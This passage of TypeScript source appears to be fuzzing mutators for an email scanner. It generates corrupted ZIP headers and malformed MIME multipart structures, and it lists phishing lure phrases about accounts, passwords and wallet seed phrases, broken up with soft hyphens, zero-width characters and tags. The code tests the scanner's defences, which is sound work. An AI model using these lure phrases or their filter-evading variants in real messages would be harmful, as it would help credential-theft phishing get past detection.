      // a descriptor signature inside the data, too
      if (rng.chance(0.15)) parts.splice(parts.length - 1, 1, Buffer.concat([e.data.subarray(0, 2), Buffer.from([0x50, 0x4b, 0x07, 0x08]), e.data.subarray(2)]));
      parts.push(dd);
      offset += dd.length;
    }
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(e.flags, 8);
    ch.writeUInt32LE(rng.chance(0.8) ? e.sizes[0] : rng.pick([0, 0xffffffff]), 20);
    ch.writeUInt32LE(e.sizes[1], 24);
    ch.writeUInt16LE(e.name.length, 28);
    ch.writeUInt16LE(rng.chance(0.9) ? 0 : 0xffff, 30);
    ch.writeUInt32LE(rng.chance(0.8) ? at : rng.pick([0xffffffff, at + 1, offset, 0]), 42);
    centrals.push(ch, e.name);
  }
  let out = Buffer.concat(parts);
  if (rng.chance(0.5)) {
    const cd = Buffer.concat(centrals);
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0);
    const count = rng.chance(0.8) ? n : rng.pick([0, 0xffff, n + 1]);
    end.writeUInt16LE(count, 8);
    end.writeUInt16LE(count, 10);
    end.writeUInt32LE(cd.length, 12);
    end.writeUInt32LE(rng.chance(0.8) ? out.length : rng.pick([0, 0xffffffff, out.length + 3, out.length + cd.length]), 16);
    // an end record cut short, or padded so that it falls out of the last 16 KiB
    out = Buffer.concat([out, cd, rng.chance(0.1) ? end.subarray(0, rng.int(22)) : end, Buffer.alloc(rng.chance(0.1) ? rng.pick([16 * 1024 - 22, 16 * 1024, 17 * 1024]) : 0)]);
  } else if (rng.chance(0.5)) {
    out = Buffer.concat([out, centrals[0]!.subarray(0, rng.pick([4, 46]))]);
  }
  // cut anywhere, or around the walk's 256 KiB bound
  if (rng.chance(0.4)) out = out.subarray(0, rng.int(out.length + 1));
  if (rng.chance(0.05)) out = Buffer.concat([out, Buffer.alloc(rng.pick([256 * 1024 - out.length, 256 * 1024 - out.length + 1, 300 * 1024]))]);
  return out;
}

const zipHeadCorrupt: Mutator = (msg, rng) => {
  const heads = rng.pick([1, 1, 2, 10, 130]);
  const name = () => rng.pick(['hopdong.docx', 'a.zip', 'a.odt', 'a.epub', 'a.jar', 'app.apk', 'a.xlsx', 'scan.pdf', 'a.bin', undefined]);
  const type = () => rng.pick(['application/zip', 'application/octet-stream', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'application/epub+zip']);
  const parts = Array.from({ length: heads }, () => filePart(rng, zipHead(rng), name(), type()));
  if (heads === 1) return insertPart(msg, rng, parts[0]!);
  return `${HEAD}Content-Type: multipart/mixed; boundary="zz"\r\n\r\n--zz\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHop dong dinh kem.\r\n${parts.map((p) => `--zz\r\n${p}\r\n`).join('')}--zz--\r\n`;
};

// ---- header blocks that run into a delimiter (MimeSplitter, hasBody) --------------------------------

/** A part header block with no empty line after it (or one, sometimes), in the given line end. */
function runInHead(rng: Rng, eol: () => string): string {
  const fields = rng.pick([
    ['Content-Type: text/plain; charset=utf-8'], ['Content-Type: text/html'], ['Content-Type: application/pdf; name="a.pdf"', 'Content-Disposition: attachment; filename="a.pdf"'],
    ['Content-Type: application/octet-stream; name="a.exe"', 'Content-Transfer-Encoding: base64'], ['Content-Type: message/rfc822'], ['Content-Type: multipart/mixed; boundary="in"'],
    ['X-Other: x', '\tcontinued'], ['Content-Type: text/plain;', ' charset="utf-8"'], ['Content-Disposition: attachment'],
  ]);
  return fields.map((f) => f + eol()).join('');
}

const headerIntoDelimiter: Mutator = (msg, rng) => {
  const style = rng.int(4);
  const eol = () => style === 0 ? '\r\n' : style === 1 ? '\n' : style === 2 ? '\r' : rng.pick(['\r\n', '\n', '\r', '\n\r']);
  const depth = rng.pick([1, 1, 2, 3, 5]);
  const bodiless = () => rng.pick(['', `Content-Type: text/plain${eol()}`, `Content-Type: text/html; charset=utf-8${eol()}${eol()}`, `${eol()}`]);
  const textPart = () => `Content-Type: text/plain; charset=utf-8${eol()}${eol()}Noi dung.${eol()}`;
  const level = (d: number): string => {
    const b = `b${d}`;
    const kind = d === 0 ? 'mixed' : rng.pick(['mixed', 'mixed', 'alternative', 'digest', 'related']);
    const inner = d + 1 < depth ? level(d + 1) : '';
    const parts: string[] = [];
    const n = 1 + rng.int(4);
    for (let i = 0; i < n; i++) {
      switch (rng.int(6)) {
        case 0: parts.push(runInHead(rng, eol)); break; // runs into the next delimiter
        case 1: parts.push(bodiless()); break;
        case 2: parts.push(`Content-Type: message/rfc822${eol()}${eol()}From: x@y.example${eol()}Subject: fw${eol()}Content-Type: multipart/mixed; boundary="r${d}"${eol()}${eol()}--r${d}${eol()}${runInHead(rng, eol)}--r${d}${eol()}${textPart()}--r${d}--${eol()}`); break;
        case 3: if (inner) { parts.push(inner); break; } parts.push(textPart()); break;
        default: parts.push(textPart());
      }
    }
    // the last part before the close delimiter: often a block that runs into it
    if (rng.chance(0.5)) parts.push(runInHead(rng, eol));
    if (rng.chance(0.3)) parts.push(bodiless());
    const close = rng.pick([`--${b}--`, `--${b}--`, `--${b}-- `, `--${b}`, '']);
    return `Content-Type: multipart/${kind}; boundary="${b}"${eol()}${eol()}${rng.chance(0.2) ? `preamble${eol()}` : ''}${parts.map((p) => `--${b}${eol()}${p}`).join('')}${close}${close ? eol() : ''}`;
  };
  const tree = level(0);
  if (rng.chance(0.7)) return `${HEAD.replace(/\r\n/g, eol())}${tree}`;
  // one such part inside the seed's own multipart
  return insertPart(msg, rng, runInHead(rng, eol).replace(/(\r\n|\n|\r)$/, ''));
};

// ---- word-list anchors ------------------------------------------------------------------------------

/** Phrases of the lure lists, for when no list is built yet (the mutators test). */
const LURE_WORDS = ['xac minh tai khoan', 'verify your account', 'seed phrase', 'mat khau', 'khoa tai khoan', 'nap dau', 'free spins', 'wallet support', 'tai khoan cua ban', 'password expire'];

function someAnchor(rng: Rng): string {
  const lists = builtWordLists.filter((l) => l.anchors !== undefined && l.anchors.length > 0);
  if (lists.length && rng.chance(0.8)) return rng.pick(rng.pick(lists).anchors!);
  return rng.pick(LURE_WORDS);
}

/** An anchor without its word, one unit off, broken by a tag or a soft hyphen, or whole. */
function nearAnchor(rng: Rng, a: string): string {
  const i = rng.int(a.length + 1);
  switch (rng.int(8)) {
    case 0: return a; // the anchor alone (its list's word around it missing)
    case 1: return a.slice(0, i) + rng.pick(['x', '', ' ', 'ế', '\u00ad', '\u200b']) + a.slice(i + 1);
    case 2: return a.slice(0, i) + rng.pick(['<b></b>', '<!-- -->', '\r\n', '=\r\n', '&nbsp;']) + a.slice(i);
    case 3: return a.toUpperCase();
    case 4: return a.slice(0, i);
    case 5: return a.slice(i);
    case 6: return `${a} ${a.split('').reverse().join('')} ${a}`;
    default: return a.normalize('NFD');
  }
}

const wordListAnchors: Mutator = (msg, rng) => {
  const a = someAnchor(rng);
  // filler of the anchor's own pieces, so that the piece table is full of near misses, then the
  // anchor (or a near miss) at each offset modulo 32
  const filler = rng.chance(0.5) ? a.slice(0, Math.max(1, a.length - 1)) + ' ' : rng.pick(['Kính gửi quý khách ', 'a', ' ', 'ababab ']);
  let text = '';
  const count = rng.pick([1, 3, 32, 200]);
  for (let k = 0; k < count; k++) {
    text += filler.repeat(rng.int(4)) + ' '.repeat(rng.int(32)) + nearAnchor(rng, a);
  }
  text = text.slice(0, 200_000);
  const utf8 = Buffer.from(text, 'utf8').toString('latin1');
  if (rng.chance(0.3)) {
    // the word split across the subject and the body
    const at = rng.int(a.length + 1);
    const subject = Buffer.from(a.slice(0, at), 'utf8').toString('latin1');
    const body = Buffer.from(a.slice(at) + ' ' + text.slice(0, 5000), 'utf8').toString('latin1');
    return `From: a@sender.example\r\nTo: staff@lachan.test\r\nSubject: ${rng.chance(0.5) ? `=?utf-8?B?${Buffer.from(a.slice(0, at), 'utf8').toString('base64')}?=` : subject}\r\nMIME-Version: 1.0\r\nContent-Type: text/${rng.pick(['plain', 'html'])}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}\r\n`;
  }
  const html = rng.chance(0.3);
  const body = html ? `<html><body><p>${utf8}</p></body></html>` : utf8;
  return insertPart(msg, rng, `Content-Type: text/${html ? 'html' : 'plain'}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${body}`);
};

export const CHANGED_CODE_MUTATORS: Record<string, Mutator> = {
  profileCorrupt, xarCorrupt, appZipCorrupt, flatParseDeep, textChunkEdges, prescanLines, longTokens, contentReaders,
  zipHeadCorrupt, headerIntoDelimiter, wordListAnchors,
};
